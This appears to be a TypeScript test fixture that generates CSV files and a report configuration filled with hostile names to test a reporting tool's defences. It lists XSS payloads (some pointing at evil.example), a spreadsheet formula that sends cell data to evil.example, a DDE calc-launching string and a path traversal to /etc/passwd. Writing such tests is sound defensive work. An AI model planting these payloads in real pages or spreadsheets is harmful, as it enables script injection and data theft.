import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';

/** Bytes of the longest field: more than the engine's usual line. It names a customer who owes, and their manager. */
const LONG_FIELD = 2_000_000;
/** A file name that is no harmless text in a page either. */
const INVOICES = 'invoices &amp; <b>more.csv';

const LOGO = '<b>logo &amp;.svg';

/** What a customer, a manager, a document or a company may be called by someone who means harm, or by accident. */
export const HOSTILE = [
  '<script>alert(1)</script>',
  '</title></script><script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(2)>',
  '"><svg onload=alert(3)>',
  "' onmouseover='alert(4)",
  '<a href="javascript:alert(5)">pay here</a>',
  '<style>*{background:url(https://evil.example/a.png)}</style>',
  '&lt;b&gt; &amp; &#x27;',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A1",
  '-2+3',
  '@SUM(1+1)',
  '|calc',
  '\t=1+1',
  '\u202Egnp.exe Ltd',
  'SIA \u2066\u2067\u202Bwrong\u202D way',
  'שלום עליכם בע"מ',
  'o\u0301\u0302\u0303\u0304\u0305\u0306 zalgo',
  '👨‍👩‍👧‍👦🏳️‍🌈 SIA',
  'W'.repeat(300),
  'wide '.repeat(4000).trimEnd(),
  `${'Very long name of a company that goes on and on '.repeat(6)}Ltd`,
  'constructor',
  '__proto__',
  'toString',
  '..',
  '../../../etc/passwd',
  'index.html',
  'con',
  '%2e%2e%2f',
  '404',
  'Index',
  'a,b;c|d"e""f',
  'two\nlines',
  'null',
] as const;

export const LONG_NAME = 'long '.repeat(LONG_FIELD / 5).trimEnd();

/** A report folder in which every text that a user or a stranger can choose is hostile. */
export function writeHostileFolder(folder: string): void {
  mkdirSync(folder, { recursive: true });
  const write = (name: string, rows: Record<string, string>[]): void =>
    writeFileSync(join(folder, name), `${Papa.unparse(rows, { newline: '\n' })}\n`);
  const owner = (index: number): string => HOSTILE[index % 12] ?? '';
  write('customers.csv', [
    ...HOSTILE.map((name, index) => ({ id: name, name, manager: owner(index) })),
    { id: 'long', name: LONG_NAME, manager: LONG_NAME },
  ]);
  const invoices = HOSTILE.map((name, index) => ({
    id: `${index}${name}`,
    customer: name,
    issued: '2026-01-05',
    due: `2026-0${1 + (index % 5)}-20`,
    amount: `${100 + index}.50`,
    manager: owner(index + 1),
    entity: name,
  }));
  write(INVOICES, [
    ...invoices,
    { id: 'long', customer: 'long', issued: '2026-01-05', due: '2026-02-20', amount: '77.00', manager: '', entity: '' },
    ...HOSTILE.slice(0, 12).map((name) => ({ id: name, customer: name, issued: name, due: '', amount: name, manager: name, entity: '' })),
  ]);
  write(
    'payments.csv',
    ['long', ...HOSTILE].map((name) => ({ id: `p${name}`, customer: name, date: '2026-02-03', amount: '1.00', invoice: '' })),
  );
  writeFileSync(
    join(folder, LOGO),
    '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="40"><rect width="300" height="40"/></svg>',
  );
  const [script, , image] = HOSTILE;
  const configuration = {
    company: `${script} ${image}`,
    title: '"><svg onload=alert(6)> \u202E',
    currency: 'EUR',
    asOf: '2026-06-30',
    locales: ['lv', 'en'],
    stages: [
      { id: 'current', upTo: 0 },
      { id: 'overdue', upTo: 30, name: '<b onclick=alert(7)>late</b>' },
      { id: 'critical', upTo: 90, name: '</style><script>alert(8)</script>' },
      { id: 'hopeless' },
    ],
    identity: { accent: '#ffff00', logo: LOGO, footer: '</footer><img src=x onerror=alert(9)>', url: 'https://reports.example.com/a"><b>' },
    tolerance: { rejectedRows: 100 },
    sources: [
      { files: INVOICES, kind: 'invoices' },
      { files: 'customers.csv', kind: 'customers' },
      { files: 'payments.csv', kind: 'payments' },
    ],
  };
  writeFileSync(join(folder, 'report.yaml'), JSON.stringify(configuration, null, 2));
}
